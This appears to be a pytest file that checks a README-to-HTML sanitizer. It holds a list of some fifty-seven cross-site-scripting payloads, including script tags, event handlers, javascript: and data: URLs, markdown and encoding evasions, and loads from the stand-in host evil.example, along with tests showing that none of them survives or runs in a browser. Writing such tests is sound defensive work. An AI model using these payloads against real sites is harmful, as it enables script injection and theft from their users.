from __future__ import annotations

from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest

from ticket_hub_api.pages.readme import render_readme

if TYPE_CHECKING:
    from playwright.sync_api import Browser

RUN = "window.planted=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f'<a href="javascript:{RUN}">x</a>',
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java&#x73;cript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](\tjavascript:{RUN})",
    f"[click](java\nscript:{RUN})",
    f"[click](<javascript:{RUN}>)",
    f"<javascript:{RUN}>",
    "[click](vbscript:msgbox(1))",
    f"[click](data:text/html,<script>{RUN}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucGxhbnRlZD0xPC9zY3JpcHQ+)",
    f"![x](javascript:{RUN})",
    f'![x](https://evil.example/x.png "onerror={RUN}")',
    f'![x"onerror="{RUN}](x)',
    f'![x](x"onerror="{RUN})',
    f"[x]: javascript:{RUN}\n\n[x]",
    f'[x]: https://a.example "\\" onmouseover=\\"{RUN}"\n\n[x]',
    f'```"><script>{RUN}</script>\ncode\n```',
    f"`</code><script>{RUN}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f'<!--<img src="--><img src=x onerror={RUN}//">',
    f"---\ntitle: </script><script>{RUN}</script>\n---\n\n# x",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\<script>{RUN}</script>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    f'<a href="https://a.example" hx-on::load="{RUN}" hx-get="/x" hx-trigger=load>x</a>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"\u003cimg src=x onerror={RUN}\u003e\u0000<\u0000script>{RUN}</script>",
)  # fmt: skip
ALLOWED = {"a": {"href", "title", "rel"}, "ol": {"start"}}


class Elements(HTMLParser):
    """Every element with its attributes, as a browser would find them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_there_are_at_least_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_a_payload_can_run_or_load(payload: str) -> None:
    for tag, attributes in Elements(render_readme(payload)).found:
        assert tag not in {"script", "img", "svg", "iframe", "style", "link", "base", "form"}
        assert set(attributes) <= ALLOWED.get(tag, set())
        target = attributes.get("href")
        assert target is None or target.startswith(("http://", "https://", "mailto:"))


def test_no_payload_runs_in_a_browser_even_without_our_policy(chromium: Browser) -> None:
    context = chromium.new_context(java_script_enabled=True)
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for payload in PAYLOADS:
        page.set_content(f"<!doctype html><main>{render_readme(payload)}</main>")
        for link in page.locator("main a:not([href^=http]):not([href^=mailto])").all():
            link.click(force=True)
        assert page.evaluate("window.planted") is None, payload
    context.close()
    assert asked == []


def test_headings_stand_below_those_of_the_page() -> None:
    text = render_readme("# One\n\n## Two\n\n##### Five")
    assert text == "<h3>One</h3>\n<h4>Two</h4>\n<h6>Five</h6>\n"


def test_the_front_matter_is_left_out() -> None:
    assert render_readme("---\ntags:\n- a\n---\n\nText\n") == "<p>Text</p>\n"
    assert "Text" in render_readme("Text\n\n---\n\nMore\n\n---\n")


def test_pictures_become_links() -> None:
    text = render_readme("![A *figure*](https://a.example/x.png)")
    assert 'href="https://a.example/x.png"' in text
    assert "A figure" in text
    assert "<img" not in text


def test_links_into_the_repository_lose_their_target() -> None:
    assert "href" not in render_readme("[x](ticket.json) [y](/account/tokens) [z](//evil.example)")


def test_tables_and_code_are_kept() -> None:
    text = render_readme("| a | b |\n|---|---:|\n| 1 | `2` |\n\n```python\nx = 1\n```\n")
    for part in ("<table>", "<th>a</th>", "<code>2</code>", "<pre><code>x = 1\n</code></pre>"):
        assert part in text


def test_deep_nesting_is_no_trouble() -> None:
    assert render_readme("> " * 5000 + "x")
    assert render_readme("[" * 20000)
    assert render_readme("*a " * 20000)
